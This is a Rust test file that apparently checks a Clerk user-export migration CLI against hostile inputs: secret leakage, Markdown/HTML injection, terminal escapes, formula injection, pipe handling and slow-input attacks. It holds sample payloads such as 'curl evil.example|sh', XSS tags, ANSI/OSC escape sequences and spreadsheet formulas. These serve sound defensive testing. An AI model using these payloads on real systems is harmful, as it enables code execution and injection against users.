//! Hostile and broken inputs: files made to leak a secret, to inject into a Markdown file or
//! a terminal, to hang the run or to lose rows. Each test is one class of attack, tried on
//! the engine and on the command line.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use clerk_dev2prod::core::keys::{check_keys, KeyFile};
use clerk_dev2prod::core::lang::Lang;
use clerk_dev2prod::core::prepare::{
    prepare, PrepareOptions, Prepared, MIGRATION_MD, REJECTED_CSV, REPORT_JSON,
};
use common::scratch;

const KEY: &str = "sk_live_Q7hd0K2mN4pR8sT1vW3xY5zA9bC6eF0gH2jK4lM7";
const TEST_KEY: &str = "sk_test_Z9yX8wV7uT6sR5qP4oN3mL2kJ1iH0gF9eD8cB7aA6";
const BCRYPT: &str = "$2b$12$KIXQJmBvQjO6yXv1mQ0tUeJqKzRrGk8m1wzZ0Jb5aQx9Y0n3pV8kS";
const TOTP: &str = "JBSWY3DPEHPK3PXP";
const HEADER: &str = "id,first_name,last_name,username,primary_email_address,primary_phone_number,verified_email_addresses,unverified_email_addresses,verified_phone_numbers,unverified_phone_numbers,totp_secret,password_digest,password_hasher";

fn cli(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_clerk-dev2prod"))
        .env_remove("DATABASE_URL")
        .args(args)
        .output()
        .expect("the binary runs")
}

fn write(dir: &Path, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

/// Panics if `text` holds any 12-character piece of any of `secrets`.
fn assert_no_piece(what: &str, text: &str, secrets: &[&str]) {
    for secret in secrets {
        let chars: Vec<char> = secret.chars().collect();
        for piece in chars.windows(12) {
            let piece: String = piece.iter().collect();
            assert!(
                !text.contains(&piece),
                "{what} holds {piece:?} of a secret:\n{text}"
            );
        }
    }
}

/// Everything a person reads of a run: report.json, MIGRATION.md, rejected.csv's problems
/// column, and every message in both languages.
fn readable(prepared: &Prepared) -> String {
    let file = |name| String::from_utf8_lossy(&prepared.file(name).unwrap().bytes).into_owned();
    let mut all = file(REPORT_JSON) + &file(MIGRATION_MD);
    let rejected = prepared.file(REJECTED_CSV).unwrap().bytes.clone();
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(rejected.as_slice());
    for record in reader.records() {
        all += record.unwrap().get(1).unwrap_or("");
    }
    for issue in prepared.notices.iter().chain(&prepared.issues) {
        for lang in Lang::ALL {
            all += &issue.message(lang);
            all += &issue.fix(lang);
        }
    }
    all
}

// 1. A config file given as the export, a key as a header cell.

#[test]
fn a_config_file_given_as_the_export_never_shows_its_key() {
    let err = prepare(
        format!("CLERK_SECRET_KEY={KEY}\n").as_bytes(),
        &PrepareOptions::default(),
    )
    .unwrap_err();
    for lang in Lang::ALL {
        let message = err.message(lang);
        assert_no_piece("the error", &message, &[KEY]);
        assert!(
            message.contains("CLERK_SECRET_KEY=sk_live_…4lM7"),
            "{message}"
        );
    }

    let dir = scratch("config-as-export");
    let env = write(&dir, "gateway.env", format!("CLERK_SECRET_KEY={KEY}\n"));
    let out = cli(&[
        "prepare",
        env.to_str().unwrap(),
        "--out",
        dir.join("o").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert_no_piece("stderr", &String::from_utf8_lossy(&out.stderr), &[KEY]);
}

#[test]
fn a_key_as_a_header_cell_is_masked_in_the_summary_and_the_report() {
    let export = format!("id,username,{KEY}\nuser_1,ada_lovelace,x\n");
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_no_piece("the outputs", &readable(&prepared), &[KEY]);

    let dir = scratch("key-header");
    let csv = write(&dir, "users.csv", &export);
    let out = cli(&[
        "prepare",
        csv.to_str().unwrap(),
        "--out",
        dir.join("o").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0));
    assert_no_piece("stdout", &String::from_utf8_lossy(&out.stdout), &[KEY]);
}

// 2. A key followed by a quote and `:` or `=` is not the next key's variable name.

#[test]
fn a_key_is_never_the_variable_name_of_the_next_key() {
    let rotation = [
        format!("{{\"CLERK_KEYS\": {{\"{KEY}\": \"{TEST_KEY}\"}}}}\n"),
        format!("rotation:\n  '{KEY}': '{TEST_KEY}'\n"),
        format!("rotation:\n  {KEY}: {TEST_KEY}\n"),
        format!("OLD=\"{KEY}\"=\"{TEST_KEY}\"\n"),
    ];
    for text in &rotation {
        let report = check_keys(&[KeyFile {
            service: "rot.json".into(),
            bytes: text.clone().into_bytes(),
        }]);
        assert_eq!(report.keys.len(), 2, "{text}");
        for key in &report.keys {
            assert_no_piece("a variable", &key.variable, &[KEY, TEST_KEY]);
        }
        let checklist = format!("{:?}", report.checklist());
        assert_no_piece("the checklist", &checklist, &[KEY, TEST_KEY]);
    }

    let dir = scratch("rotation");
    let rot = write(&dir, "rot.json", &rotation[0]);
    let out = cli(&["check-keys", rot.to_str().unwrap()]);
    assert_no_piece(
        "stdout",
        &String::from_utf8_lossy(&out.stdout),
        &[KEY, TEST_KEY],
    );
    let csv = write(&dir, "users.csv", "id,username\nuser_1,ada_lovelace\n");
    let o = dir.join("o");
    let out = cli(&[
        "prepare",
        csv.to_str().unwrap(),
        "--out",
        o.to_str().unwrap(),
        "--keys",
        rot.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0));
    let runbook = std::fs::read_to_string(o.join(MIGRATION_MD)).unwrap();
    assert_no_piece("MIGRATION.md", &runbook, &[KEY, TEST_KEY]);
    assert!(runbook.contains("`CLERK_KEYS`"), "{runbook}");
}

// 3. A digest or TOTP secret shifted into a quoted cell by an unquoted comma.

#[test]
fn a_shifted_digest_or_totp_secret_is_never_quoted() {
    for commas in [", RADM", ", RADM, ret."] {
        let export = format!(
            "{HEADER}\nuser_2aXk2,Grace{commas},Hopper,grace_h,grace@example.com,,grace@example.com,,,,{TOTP},{BCRYPT},bcrypt\n"
        );
        let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
        assert_eq!(prepared.counts.rejected, 1, "{commas}");
        assert_no_piece("the outputs", &readable(&prepared), &[BCRYPT, TOTP]);
    }
    // The TOTP secret in lower case has no secret's shape: its column says it is one.
    let export = format!(
        "{HEADER}\nuser_1,Grace,,grace_h,grace@example.com,,,,,,,{},{}\n",
        TOTP.to_lowercase(),
        TOTP.to_lowercase()
    );
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    assert!(prepared
        .issues
        .iter()
        .any(|i| i.code.as_str() == "unknown_hasher"));
    assert_no_piece("the outputs", &readable(&prepared), &[&TOTP.to_lowercase()]);
}

// 4. reconcile.md and 5. MIGRATION.md: no value from a file adds Markdown structure.

/// The structure of a Markdown text as a reader sees it: every block and inline element,
/// with the text in between reduced to one word.
fn md_shape(md: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Options, Parser};
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut shape: Vec<String> = Vec::new();
    for event in Parser::new_ext(md, options) {
        let item = match event {
            Event::Text(_) | Event::Code(_) => "text".to_string(),
            Event::Html(_) | Event::InlineHtml(_) => "HTML".to_string(),
            Event::Start(tag) => format!("<{tag:?}>"),
            Event::End(tag) => format!("</{tag:?}>"),
            other => format!("{other:?}"),
        };
        if !(item == "text" && shape.last().is_some_and(|l| l == "text")) {
            shape.push(item);
        }
    }
    shape
}

/// No character that a terminal or an editor would act on, but the line breaks.
fn assert_no_control(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c))
        .collect();
    assert!(bad.is_empty(), "{what} holds {bad:?}:\n{text}");
}

fn reconcile_md(dev_id: &str, prod_id: &str, external_id: &str, error: &str, name: &str) -> String {
    use clerk_dev2prod::core::reconcile::{reconcile, ReconcileInput, RECONCILE_MD};
    // A JSON export: in a CSV, a line break in an id is a stray quote, and the row rejected.
    let dev = serde_json::json!([
        {"id": dev_id, "first_name": "Ada", "primary_email_address": "m@example.com"},
        {"id": "user_ok", "first_name": "Grace", "primary_email_address": "ok@example.com"},
    ])
    .to_string();
    let prod = serde_json::json!([
        {"id": prod_id, "external_id": external_id, "first_name": "Ada",
         "email_addresses": [{"id": "e1", "email_address": "x@example.com", "verification": {"status": "verified"}}],
         "primary_email_address_id": "e1", "phone_numbers": []},
        {"id": "user_2ok", "external_id": "user_ok", "first_name": name,
         "email_addresses": [{"id": "e2", "email_address": "ok@example.com", "verification": {"status": "verified"}}],
         "primary_email_address_id": "e2", "phone_numbers": []},
    ])
    .to_string();
    let log = serde_json::json!({"userId": dev_id, "status": "error", "error": error}).to_string();
    let db_ids = format!("user_gone{}\n", external_id.replace(['\n', '\r'], ""));
    let input = ReconcileInput {
        dev: dev.as_bytes(),
        prod: prod.as_bytes(),
        logs: vec![log.as_bytes()],
        db_ids: Some(db_ids.as_bytes()),
    };
    let reconciled = reconcile(&input, Lang::En).unwrap();
    let md = reconciled
        .files
        .iter()
        .find(|f| f.name == RECONCILE_MD)
        .unwrap();
    String::from_utf8(md.bytes.clone()).unwrap()
}

#[test]
fn reconcile_md_takes_no_structure_from_ids_logs_or_names() {
    let plain = reconcile_md("user_m", "user_2p", "user_zz", "failed", "Grace B");
    let hostile = reconcile_md(
        "user_m`\n\n## Step 0\n```sh\ncurl evil.example|sh\n```",
        "user_2p<img src=x onerror=alert(1)>",
        "user_zz` | <b>x</b> |\r\n# H",
        "```sh\ncurl evil.example|sh\n```\n<script>alert(1)</script>",
        "Grace | B\n\n## Step 0 \u{1b}[2J",
    );
    assert_eq!(md_shape(&hostile), md_shape(&plain), "{hostile}");
    assert_no_control("reconcile.md", &hostile);
    assert!(
        hostile.contains("Step 0"),
        "the values are still shown: {hostile}"
    );
}

#[test]
fn migration_md_takes_no_structure_from_file_names_services_or_providers() {
    use clerk_dev2prod::core::instance::read_settings;
    let runbook = |file: &str, service: &str, provider: &str| {
        let mut settings: serde_json::Value = serde_json::from_slice(
            &std::fs::read(common::fixture("instance/default.json")).unwrap(),
        )
        .unwrap();
        settings["user_settings"]["social"][provider] = serde_json::json!({"enabled": true});
        let options = PrepareOptions {
            file_name: file.into(),
            key_checklist: check_keys(&[KeyFile {
                service: service.into(),
                bytes: format!("CLERK_SECRET_KEY={KEY}\n").into_bytes(),
            }])
            .checklist(),
            instance: Some(read_settings(settings.to_string().as_bytes()).unwrap()),
            ..PrepareOptions::default()
        };
        let prepared = prepare(b"id,username\nuser_1,ada_lovelace\n", &options).unwrap();
        String::from_utf8(prepared.file(MIGRATION_MD).unwrap().bytes.clone()).unwrap()
    };
    let plain = runbook("users.csv", "gateway.env", "oauth_custom");
    let hostile = runbook(
        "x`\n\n## 5b. Do this first\n```sh\ncurl evil.example|sh\n```\n.csv",
        "gw | <img src=x onerror=alert(1)> |\n## 5b",
        "oauth_<b>x</b>\n\n## 5b. Do this first \u{1b}]0;PWNED\u{7}",
    );
    assert_eq!(md_shape(&hostile), md_shape(&plain), "{hostile}");
    assert_no_control("MIGRATION.md", &hostile);
}

// Ids Clerk would never issue are a warning on their row.

#[test]
fn ids_clerk_would_never_issue_are_a_warning() {
    let export = "id,username\n\"user_m` | <b>\u{1b}[2J\",ada_lovelace\n\"user 2\",grace_hopper\nuser_3,alan_turing\n";
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    let warned: Vec<usize> = prepared
        .issues
        .iter()
        .filter(|i| i.code.as_str() == "unusual_user_id")
        .map(|i| i.row)
        .collect();
    assert_eq!(warned, [2, 3]);
    assert_eq!(prepared.counts.accepted, 3);
    let message = prepared.issues[0].message(Lang::En);
    assert!(message.contains("\"user_m` | <b>\\x1b[2J\""), "{message}");
    // In JSON an id can hold a line break; it is shown escaped.
    let json = r#"[{"id": "user_m\n## x", "username": "ada_lovelace"}]"#;
    let prepared = prepare(json.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!(prepared.issues[0].code.as_str(), "unusual_user_id");
    assert!(prepared.issues[0]
        .message(Lang::En)
        .contains("\"user_m\\n## x\""));
}

// 6. The terminal shows control characters from a user's files; it does not obey them.

fn assert_plain_terminal(what: &str, out: &Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        assert_no_control(&format!("{what}'s {stream}"), &text);
    }
}

#[test]
fn the_terminal_receives_no_escape_sequence_from_any_file() {
    let dir = scratch("escapes");
    let o = dir.join("o");
    let o = o.to_str().unwrap();
    // Ignored header cells.
    let csv = write(
        &dir,
        "e.csv",
        "id,username,\u{1b}]0;PWNED\u{7}\u{1b}[2J\nuser_a,ada1,x\n",
    );
    let out = cli(&["prepare", csv.to_str().unwrap(), "--out", o]);
    assert_eq!(out.status.code(), Some(0));
    assert_plain_terminal("prepare", &out);
    assert!(String::from_utf8_lossy(&out.stdout).contains("\\x1b]0;PWNED\\x07"));
    // JSON keys, and a file name with a bare carriage return and an OSC 8 link.
    let name = "users\r\u{1b}]8;;https:evil.example\u{7}x\u{1b}]8;;\u{7}.json";
    let json = write(
        &dir,
        name,
        "[{\"id\":\"user_1\",\"username\":\"ada_lovelace\",\"\\u001b[31mred\\r\":1}]",
    );
    let out = cli(&["prepare", json.to_str().unwrap(), "--out", o]);
    assert_eq!(out.status.code(), Some(0));
    assert_plain_terminal("prepare of a JSON export", &out);
    // The `found:` list of a file that is no export, on stderr.
    let bad = write(&dir, "bad.csv", "name,\u{1b}[2Jemail\r\nada,a@x.io\n");
    let out = cli(&["prepare", bad.to_str().unwrap(), "--out", o]);
    assert_eq!(out.status.code(), Some(2));
    assert_plain_terminal("a refused file", &out);
    // Provider names from the production settings.
    let mut settings: serde_json::Value =
        serde_json::from_slice(&std::fs::read(common::fixture("instance/default.json")).unwrap())
            .unwrap();
    settings["user_settings"]["social"]["oauth_\u{1b}[2Jx\r"] =
        serde_json::json!({"enabled": true});
    let env = write(&dir, "environment.json", settings.to_string());
    let plain = write(&dir, "plain.csv", "id,username\nuser_1,ada_lovelace\n");
    let out = cli(&[
        "prepare",
        plain.to_str().unwrap(),
        "--out",
        o,
        "--instance-settings",
        env.to_str().unwrap(),
    ]);
    assert_plain_terminal("prepare with settings", &out);
    // A key whose last four characters are an escape sequence, and a variable with one.
    let keys = write(
        &dir,
        "gw\u{1b}[2J.env",
        format!(
            "CLERK_SECRET_KEY={KEY}\u{1b}[2J\nCLERK\u{1b}[1m_X=pk_test_Y2xlcmsuZXhhbXBsZS5jb20k\n"
        ),
    );
    let out = cli(&["check-keys", keys.to_str().unwrap()]);
    assert_plain_terminal("check-keys", &out);
    assert_no_piece("check-keys", &String::from_utf8_lossy(&out.stdout), &[KEY]);
    // A config file given as the production export: its `found:` list, on stderr.
    let prod = write(
        &dir,
        "prod.env",
        format!("CLERK_SECRET_KEY={KEY}\u{1b}[2J\u{1b}]0;PWNED\u{7}\n"),
    );
    let out = cli(&[
        "prepare",
        plain.to_str().unwrap(),
        "--out",
        o,
        "--production-users",
        prod.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert_plain_terminal("prepare with a production export", &out);
    assert_no_piece("stderr", &String::from_utf8_lossy(&out.stderr), &[KEY]);
}

// 6, for the page and the files: every message, id and key variable is shown escaped, so no
// control character from a file reaches the page's DOM, report.json or rejected.csv either.

#[test]
fn messages_ids_and_variables_hold_no_control_character() {
    let export = "id,username,\u{1b}]0;PWNED\u{7}\u{202e}x\n\"user_\u{1b}[2J\",ada_lovelace,1\nuser_2,\"gr\u{1b}ace\",2\n";
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    let mut all = readable(&prepared);
    for issue in &prepared.issues {
        all += &issue.shown_user_id();
    }
    assert_no_control("the messages", &all);
    assert!(all.contains("\\x1b]0;PWNED\\x07"), "{all}");
    let err = prepare(b"name,\x1b[2Jemail\n", &PrepareOptions::default()).unwrap_err();
    for lang in Lang::ALL {
        assert_no_control("the error", &err.message(lang));
    }
    let report = check_keys(&[KeyFile {
        service: "gw.env".into(),
        bytes: format!("CLERK\u{1b}[1m_X={TEST_KEY}\n").into_bytes(),
    }]);
    let mut all = String::new();
    for key in &report.keys {
        all += &key.variable;
    }
    for finding in &report.findings {
        all += finding.message(Lang::En);
    }
    assert_no_control("the key report", &all);
}

// 11. A closed pipe ends the output quietly; the run keeps its exit status.

/// Runs the binary with its stdout (or stderr) connected to a socket whose other end is
/// already closed, so its very first write fails with a broken pipe (EPIPE), as under
/// `| true` once `true` has exited, whatever the timing.
fn with_closed(args: &[&str], close_stderr: bool) -> Output {
    let (ours, gone) = std::os::unix::net::UnixStream::pair().unwrap();
    drop(gone);
    let closed = Stdio::from(std::os::fd::OwnedFd::from(ours));
    let mut command = Command::new(env!("CARGO_BIN_EXE_clerk-dev2prod"));
    command.env_remove("DATABASE_URL").args(args);
    if close_stderr {
        command.stdout(Stdio::piped()).stderr(closed);
    } else {
        command.stdout(closed).stderr(Stdio::piped());
    }
    command.output().expect("the binary runs")
}

fn with_closed_stdout(args: &[&str]) -> Output {
    with_closed(args, false)
}

/// Asserts a run ended with `code` and said nothing on stderr (a panic says "failed
/// printing to stdout" there and exits 101, or 134 in a release build).
fn assert_quiet(what: &str, out: &Output, code: i32) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(code), "{what}: {stderr}");
    assert!(stderr.is_empty(), "{what}: {stderr}");
}

#[test]
fn a_closed_pipe_ends_the_program_quietly() {
    let dir = scratch("pipe");
    let every = common::fixture("exports/every-problem.csv");
    let o = dir.join("o");
    let args = [
        "prepare",
        every.to_str().unwrap(),
        "--out",
        o.to_str().unwrap(),
    ];
    assert_quiet("prepare | true", &with_closed_stdout(&args), 1);
    assert!(o.join(MIGRATION_MD).exists());
    // With users already in production: the summary has a line more.
    let production = common::fixture("production/before-import.csv");
    let mut with_production = args.to_vec();
    with_production.extend(["--production-users", production.to_str().unwrap()]);
    assert_quiet(
        "prepare --production-users | true",
        &with_closed_stdout(&with_production),
        1,
    );

    let keys = common::fixture("keys/one-on-test");
    let files: Vec<String> = std::fs::read_dir(&keys)
        .unwrap()
        .map(|e| e.unwrap().path().to_string_lossy().into_owned())
        .collect();
    let mut args = vec!["check-keys"];
    args.extend(files.iter().map(String::as_str));
    assert_quiet("check-keys | true", &with_closed_stdout(&args), 1);
    assert_quiet(
        "db-ids-sql | true",
        &with_closed_stdout(&["db-ids-sql", "a", "b"]),
        0,
    );
    // Errors on a closed stderr: an unusable export still exits 2, nothing written.
    let env = write(&dir, "gateway.env", format!("CLERK_SECRET_KEY={KEY}\n"));
    let refused = dir.join("refused");
    let out = with_closed(
        &[
            "prepare",
            env.to_str().unwrap(),
            "--out",
            refused.to_str().unwrap(),
        ],
        true,
    );
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(!refused.exists());
}

#[test]
fn a_reader_that_stops_after_one_line_ends_the_program_quietly() {
    // `check-keys … | head -1`: the first line is read, then the pipe closes while the
    // program still has far more to print than a pipe holds, so its next writes fail.
    let dir = scratch("head");
    let mut env = String::new();
    for i in 0..2_000 {
        env += &format!("CLERK_SECRET_KEY_{i}=sk_test_{i:030}abcdefghij\n");
    }
    let many = write(&dir, "many.env", env);
    let mut child = Command::new(env!("CARGO_BIN_EXE_clerk-dev2prod"))
        .env_remove("DATABASE_URL")
        .args(["check-keys", many.to_str().unwrap()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary runs");
    let mut first = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stdout.take().unwrap()),
        &mut first,
    )
    .unwrap();
    assert!(first.contains("many.env"), "{first}");
    let out = child.wait_with_output().unwrap();
    assert_quiet("check-keys | head -1", &out, 1);
}

// 7. Every step linear in the input; a cell or a row over the bound is rejected and says so.

/// Runs `run` on the input `make` builds for `n` and for `4 * n`, and fails when the larger
/// took more than ten times as long: a linear step takes about four times as long, a quadratic
/// one sixteen. A ratio rather than a deadline, because these sizes take seconds in an
/// unoptimised build and a loaded machine stretches both runs alike; each size is timed twice
/// and its faster run kept, so one run slowed by another process does not decide.
fn grows_linearly<I>(what: &str, n: usize, make: impl Fn(usize) -> I, run: impl Fn(I)) {
    let time = |n| {
        (0..2)
            .map(|_| {
                let input = make(n);
                let start = std::time::Instant::now();
                run(input);
                start.elapsed()
            })
            .min()
            .unwrap()
    };
    let (small, large) = (time(n), time(4 * n));
    assert!(
        large < small * 10,
        "{what}: {n} took {small:?}, {} took {large:?}",
        4 * n
    );
}

#[test]
fn a_row_of_300000_emails_is_rejected_in_linear_time_and_says_the_bound() {
    let emails: Vec<String> = (0..300_000).map(|i| format!("u{i}@example.com")).collect();
    let export = format!(
        "{HEADER}\nuser_1,Ada,L,ada_l,u0@example.com,,{},,,,,,\nuser_2,Grace,H,grace,g@example.com,,,,,,,,\n",
        emails.join("|")
    );
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!((prepared.counts.accepted, prepared.counts.rejected), (1, 1));
    let issue = prepared
        .issues
        .iter()
        .find(|i| i.row == 2 && i.code.as_str() == "cell_too_large")
        .expect("the cell is over the bound");
    assert_eq!(issue.field.as_str(), "verified_email_addresses");
    let message = issue.message(Lang::En);
    assert!(
        message.contains("64 KB") && message.contains("Clerk documents no limit"),
        "{message}"
    );
    assert!(issue.message(Lang::Es).contains("64 KB"));
    // The row is over its bound too; no message quotes the addresses, and nothing else is
    // said of the row.
    let codes: Vec<&str> = prepared
        .issues
        .iter()
        .filter(|i| i.row == 2)
        .map(|i| i.code.as_str())
        .collect();
    assert_eq!(codes, ["row_too_large", "cell_too_large"]);
    assert!(!readable(&prepared).contains("u299999@example.com"));

    // Under the bound, many addresses are checked in linear time: up to 6,000 in one cell
    // (a list scanned for each address took 60 s for 300,000).
    grows_linearly(
        "emails in one cell",
        1_500,
        |n| {
            let emails: Vec<String> = (0..n).map(|i| format!("u{i}@x.io")).collect();
            let export = format!(
                "{HEADER}\nuser_1,Ada,L,ada_l,u0@x.io,,{},,,,,,\n",
                emails.join("|")
            );
            (n, export)
        },
        |(n, export)| {
            let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
            assert_eq!(prepared.counts.accepted, 1);
            let users: serde_json::Value =
                serde_json::from_slice(&prepared.file("users.json").unwrap().bytes).unwrap();
            assert_eq!(users[0]["emailAddresses"].as_array().unwrap().len(), n - 1);
        },
    );
}

#[test]
fn an_ordinary_export_is_read_in_linear_time() {
    // The checks for hostile shapes must cost nothing per ordinary row (a scan of the rest of
    // the file per row made 10,000 rows take 18 s).
    grows_linearly(
        "ordinary rows",
        2_500,
        |n| (n, clerk_dev2prod::core::synth::dashboard_csv(n, 42)),
        |(n, export)| {
            let prepared = prepare(&export, &PrepareOptions::default()).unwrap();
            assert_eq!(prepared.counts.accepted, n);
        },
    );
}

#[test]
fn a_fifty_megabyte_name_is_never_imported() {
    let export = format!(
        "id,first_name,username\nuser_1,{},ada_l\nuser_2,Grace,grace\n",
        "A".repeat(50_000_000)
    );
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!((prepared.counts.accepted, prepared.counts.rejected), (1, 1));
    let users = &prepared.file("users.json").unwrap().bytes;
    assert!(users.len() < 1_000, "users.json has {} bytes", users.len());
    let issue = &prepared.issues.iter().find(|i| i.row == 2).unwrap();
    assert_eq!(issue.code.as_str(), "row_too_large");
    assert!(issue.message(Lang::En).contains("1 MB"));
    assert!(issue.message(Lang::Es).contains("1 MB"));
    // Nothing is lost: rejected.csv keeps the row as it was.
    let rejected = &prepared.file(REJECTED_CSV).unwrap().bytes;
    assert!(rejected.len() > 50_000_000);
    // A value over the cell bound in a row under the row bound: that cell alone is named.
    let export = format!(
        "id,first_name,username\nuser_1,{},ada_l\n",
        "B".repeat(100_000)
    );
    let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
    let codes: Vec<(&str, &str)> = prepared
        .issues
        .iter()
        .map(|i| (i.code.as_str(), i.field.as_str()))
        .collect();
    assert_eq!(codes, [("cell_too_large", "first_name")]);
    // In a JSON export, the same bounds.
    let json = serde_json::json!([
        {"id": "user_1", "username": "ada_l", "first_name": "C".repeat(100_000)},
        {"id": "user_2", "username": "grace", "k": "D".repeat(2_000_000)},
    ])
    .to_string();
    let prepared = prepare(json.as_bytes(), &PrepareOptions::default()).unwrap();
    let codes: Vec<&str> = prepared.issues.iter().map(|i| i.code.as_str()).collect();
    assert_eq!(codes, ["cell_too_large", "row_too_large"]);
    // A name of many megabytes costs in proportion to its size.
    grows_linearly(
        "a name of megabytes",
        2_000_000,
        |n| {
            format!(
                "id,first_name,username\nuser_1,{},ada_l\nuser_2,Grace,grace\n",
                "A".repeat(n)
            )
        },
        |export| {
            let prepared = prepare(export.as_bytes(), &PrepareOptions::default()).unwrap();
            assert_eq!(prepared.counts.rejected, 1);
        },
    );
}

#[test]
fn many_unknown_json_keys_are_noted_in_linear_time() {
    // One user with 250,000 unknown keys: over the row bound, read for its id only.
    let one_user = |keys: usize| {
        let mut user = serde_json::Map::new();
        user.insert("id".into(), "user_1".into());
        user.insert("username".into(), "ada_l".into());
        for i in 0..keys {
            user.insert(format!("k{i}"), 1.into());
        }
        serde_json::Value::Array(vec![user.into()]).to_string()
    };
    let prepared = prepare(one_user(250_000).as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!(prepared.issues[0].code.as_str(), "row_too_large");
    // Under the bound, every key is noted: up to 60,000 in one user (each looked up in a list
    // of the keys noted before took 45 s for 250,000).
    grows_linearly(
        "unknown keys in one user",
        15_000,
        |n| (n, one_user(n)),
        |(n, json)| {
            let prepared = prepare(json.as_bytes(), &PrepareOptions::default()).unwrap();
            assert_eq!(prepared.counts.accepted, 1);
            let ignored = prepared
                .notices
                .iter()
                .find(|i| i.code.as_str() == "ignored_columns")
                .expect("the keys are noted");
            assert!(ignored.message(Lang::En).contains(&format!("k{}", n - 1)));
        },
    );
    // Users with five keys of their own each: as many distinct keys as users times five.
    grows_linearly(
        "distinct keys over many users",
        2_500,
        |n| {
            let users: Vec<serde_json::Value> = (0..n)
                .map(|i| {
                    let mut user = serde_json::Map::new();
                    user.insert("id".into(), format!("user_{i}").into());
                    user.insert("username".into(), format!("user_name_{i}").into());
                    for k in 0..5 {
                        user.insert(format!("x{i}_{k}"), 1.into());
                    }
                    user.into()
                })
                .collect();
            (n, serde_json::Value::Array(users).to_string())
        },
        |(n, json)| {
            let prepared = prepare(json.as_bytes(), &PrepareOptions::default()).unwrap();
            assert_eq!(prepared.counts.accepted, n);
        },
    );
}

#[test]
fn many_keys_are_checked_in_linear_time() {
    // One service with many keys, as `prepare --keys` reads it.
    grows_linearly(
        "keys in one file",
        15_000,
        |n| {
            let mut env = String::new();
            for i in 0..n {
                env += &format!("CLERK_SECRET_KEY_{i}=sk_test_{i:030}abcdefghij\n");
            }
            (n, env.into_bytes())
        },
        |(n, bytes)| {
            let files = [KeyFile {
                service: "many.env".into(),
                bytes,
            }];
            assert_eq!(check_keys(&files).checklist()[0].variables.len(), n);
        },
    );
    // A rotation map of many pairs on one line.
    grows_linearly(
        "pairs on one line",
        2_500,
        |n| {
            let pairs: Vec<String> = (0..n)
                .map(|i| format!("\"sk_live_{i:030}abcdefghij\": \"sk_test_{i:030}klmnopqrst\""))
                .collect();
            (
                n,
                format!("{{\"CLERK_KEYS\": {{{}}}}}\n", pairs.join(", ")).into_bytes(),
            )
        },
        |(n, bytes)| {
            let report = check_keys(&[KeyFile {
                service: "rot.json".into(),
                bytes,
            }]);
            assert_eq!(report.keys.len(), 2 * n);
            assert!(report.keys.iter().all(|k| k.variable == "CLERK_KEYS"));
        },
    );
}

// 12. rejected.csv neutralises only what a spreadsheet would run, and reads back as it was.

#[test]
fn rejected_csv_round_trips_to_the_original_values() {
    let names = [
        "\tAda",
        "=HYPERLINK(x)",
        "\t+Grace",
        "＝1+1",
        "'Aole",
        "-5 Kate",
        "@handle",
        " =sum",
        "\r\tLin",
        "＠x",
        "＋A",
        "－5",
        "O'Brien",
    ];
    let export = |email: &dyn Fn(usize) -> String| {
        let mut text = String::from("id,first_name,username,primary_email_address\n");
        for (i, name) in names.iter().enumerate() {
            text += &format!("user_{i},\"{name}\",user_name_{i},{}\n", email(i));
        }
        text
    };
    let users = |prepared: &Prepared| -> Vec<serde_json::Value> {
        serde_json::from_slice(&prepared.file("users.json").unwrap().bytes).unwrap()
    };
    let expected = prepare(
        export(&|i| format!("u{i}@example.com")).as_bytes(),
        &PrepareOptions::default(),
    )
    .unwrap();
    let first = prepare(
        export(&|i| format!("u{i}@@example")).as_bytes(),
        &PrepareOptions::default(),
    )
    .unwrap();
    assert_eq!(first.counts.rejected, names.len());
    // The person fixes the emails in rejected.csv and prepares it again.
    let mut fixed = String::from_utf8(first.file(REJECTED_CSV).unwrap().bytes.clone()).unwrap();
    for i in 0..names.len() {
        fixed = fixed.replace(&format!("u{i}@@example"), &format!("u{i}@example.com"));
    }
    let again = prepare(fixed.as_bytes(), &PrepareOptions::default()).unwrap();
    assert_eq!(again.counts.rejected, 0);
    assert_eq!(users(&again), users(&expected), "{fixed}");
    // What a spreadsheet would run is neutralised.
    let mut reader = csv::ReaderBuilder::new().from_reader(fixed.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let text = cell.trim_start_matches(['\t', '\r', '\n', ' ']);
            assert!(
                !text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                "{cell:?}"
            );
        }
    }
}

